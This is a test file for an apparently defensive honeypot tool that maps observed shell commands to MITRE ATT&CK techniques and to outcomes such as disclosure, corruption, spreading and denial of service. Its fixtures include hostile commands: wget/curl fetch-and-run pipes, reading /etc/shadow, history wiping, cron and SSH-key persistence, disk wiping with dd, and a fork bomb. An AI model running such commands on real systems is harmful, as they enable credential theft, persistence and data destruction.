/** What commands are said to be in the words of ATT&CK and Howard: what they do, and not what they merely name. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { techniques } from '@apiary/model/attack-techniques.ts';
import { attackOf } from '../../tests/fuzz/words.ts';
import type { GatheredAttack } from './attack-row.ts';
import { listSignals } from './signals.ts';
import { judgeResults, judgeStage } from './stage.ts';
import { judgeTechniques, technique_rules } from './techniques.ts';

const typing = (text: string): GatheredAttack => ({
  ...attackOf(''),
  ...{ downloads: [], files: [], relays: [], requests: [], signatures: [], user_agents: [] },
  ...{ service: 'telnet-of-nobody', actions: { input: 1 } },
  commands: [{ ts_us: 0, event_id: '1', text, session: 's' }],
});
const techniquesOf = (text: string): string[] => judgeTechniques(typing(text)).techniques;

/** By attack.mitre.org, Enterprise, version 17. */
const shown: readonly [command: string, techniques: string[]][] = [
  ['cat /etc/passwd', ['T1087.001']],
  ['cat /etc/passwd | grep root', ['T1087.001']],
  ['echo "x:x:0:0::/:/bin/sh" >> /etc/passwd', []],
  ['passwd', ['T1098']],
  ['echo "root:abc"|chpasswd|bash', ['T1098']],
  ['echo -e "a\\nb"|passwd root', ['T1098']],
  ['/usr/bin/passwd -d root', ['T1098']],
  ['cat /etc/shadow', ['T1003.008']],
  ['grep root /etc/passwd /etc/shadow', ['T1003.008', 'T1087.001']],
  ['chattr -i /etc/shadow', ['T1222.002']],
  ['cat ~/.bash_history', ['T1552.003']],
  ['history -c', ['T1070.003']],
  ['unset HISTFILE', ['T1070.003']],
  ['export HISTFILE=/dev/null', ['T1070.003']],
  ['rm -f ~/.bash_history', ['T1070.003', 'T1070.004']],
  ['cat /dev/null > /home/x/.bash_history', ['T1070.003']],
  ['echo $HISTFILE', []],
  ['which wget curl', []],
  ['apt install wget curl', []],
  ['wget --version', []],
  ['wget http://198.51.100.7/x', ['T1105']],
  ['cd /tmp || cd /var/run; wget http://198.51.100.7/x; sh x', ['T1105']],
  ['(curl -fsSL http://198.51.100.7/x || wget -q -O- http://198.51.100.7/x)|sh', ['T1105']],
  ['sh -c "wget http://198.51.100.7/x"', ['T1105']],
  ['/bin/busybox wget http://198.51.100.7/x', ['T1105']],
  ['nohup /usr/bin/curl http://198.51.100.7/x', ['T1105']],
  ['w', ['T1033']],
  ['w=1; id=2', []],
  ['sudo whoami', ['T1033']],
  ['./who.sh', []],
  ['cat /etc/hosts', ['T1016']],
  ['echo > /etc/hosts.deny', []],
  ['echo nameserver 198.51.100.7 > /etc/resolv.conf', []],
  ['ls -la /etc/cron.d', ['T1083']],
  ['crontab -l', []],
  ['crontab -r', []],
  ['crontab -u root -l', []],
  ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', ['T1053.003']],
  ['echo "* * * * * root /tmp/x" >> /etc/crontab', ['T1053.003']],
  ['cp x /etc/cron.hourly/gcc.sh', ['T1053.003']],
  ['/etc/init.d/iptables stop', ['T1562.004']],
  ['/etc/init.d/ssh start', []],
  ['echo /tmp/x >> /etc/rc.local', ['T1037.004']],
  ['cp x /etc/init.d/x; update-rc.d x defaults', ['T1037.004']],
  ['systemctl enable x', ['T1543.002']],
  ['cp x.service /etc/systemd/system/x.service', ['T1543.002']],
  ['ls /etc/systemd', ['T1083']],
  ['dd if=/dev/zero of=/dev/null bs=1M count=100', []],
  ['dd if=/dev/zero of=/dev/sda', ['T1485']],
];

describe('ATT&CK techniques', () => {
  for (const [command, expected] of shown)
    test(`of ${command}`, () => assert.deepEqual(techniquesOf(command), expected));

  test('have numbers of their form, each once, and each is found by some rule', () => {
    for (const { id } of techniques) assert.match(id, /^T\d{4}(?:\.\d{3})?$/);
    const ids = techniques.map(({ id }) => id);
    assert.equal(new Set(ids).size, ids.length);
    assert.deepEqual(new Set(technique_rules.map(({ id }) => id)), new Set(ids));
  });
});

describe('what came of a command', () => {
  const resultsOf = (text: string): string[] => judgeResults(typing(text)).results;
  const signalsOf = (text: string): string[] => listSignals(typing(text)).map(({ name }) => name);

  test('is disclosure for who reads secrets, and not for who deletes or overwrites them', () => {
    for (const text of [
      'cat /etc/shadow',
      'cat ~/.bash_history',
      'cat /var/www/config.php',
      'scp /etc/passwd x:',
    ])
      assert.deepEqual(resultsOf(text), ['disclosure of information'], text);
    for (const text of ['rm -f ~/.bash_history', 'chattr -i /etc/shadow', 'echo "allocate 1"', 'history -c'])
      assert.deepEqual(resultsOf(text), [], text);
  });

  test('is a tool that was brought where something was to be fetched, also by a honeypot that reaches nobody', () => {
    const stageOf = (text: string): string => judgeStage(typing(text)).stage;
    for (const text of [
      'wget http://198.51.100.7/bins.sh; sh bins.sh',
      'tftp -g -r bot.arm 198.51.100.7',
      '/bin/busybox wget http://198.51.100.7/bot.arm7 -O - > /tmp/a',
      'cd /tmp; curl -O ftp://198.51.100.7/a.pl',
    ])
      assert.equal(stageOf(text), 'brought a tool', text);
    for (const text of [
      'tftp; wget; /bin/busybox ECCHI',
      'which wget',
      'ping 198.51.100.7',
      'curl --version',
    ])
      assert.equal(stageOf(text), 'acted', text);
  });

  test('goes against others where a scanner is started, and not where one tells its name', () => {
    const spreads = (text: string): boolean => judgeStage(typing(text)).stage === 'spread from here';
    const key = 'AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1';
    for (const text of [
      'EHLO masscan',
      'EHLO NVG-ZMAP-03',
      'pkill masscan',
      `mkdir .ssh && echo "ssh-rsa ${key} root@198.51.100.7" >> .ssh/authorized_keys`,
    ])
      assert(!spreads(text) && !signalsOf(text).includes('spreading'), text);
    for (const text of [
      './masscan 198.51.100.0/24 -p22',
      'cd /tmp; nohup /tmp/zmap -p 23',
      'nmap -sS 198.51.100.0/24',
      'ssh root@198.51.100.7',
      'sshpass -p x ssh root@198.51.100.7',
      'python slowloris.py 198.51.100.7',
    ])
      assert(spreads(text), text);
  });

  test('is no corruption where what is written goes nowhere, and a fork bomb is denial of service', () => {
    assert.deepEqual(resultsOf('dd if=/dev/zero of=/dev/null bs=1M count=1024'), []);
    assert.deepEqual(resultsOf('dd if=/dev/urandom of=/dev/sda'), ['corruption of information']);
    assert.deepEqual(resultsOf(':(){ :|:& };:'), ['denial of service']);
  });

  test('a cause is one that is named, and no piece of what was encoded', () => {
    assert.deepEqual(signalsOf('echo "#OpIsrael was here" > index.html'), ['politics']);
    for (const text of ['echo kQ9/opQx7abZ+opABCDEF== | base64 -d', 'getopt opABCx1', 'useradd slava'])
      assert.deepEqual(signalsOf(text), [], text);
  });
});
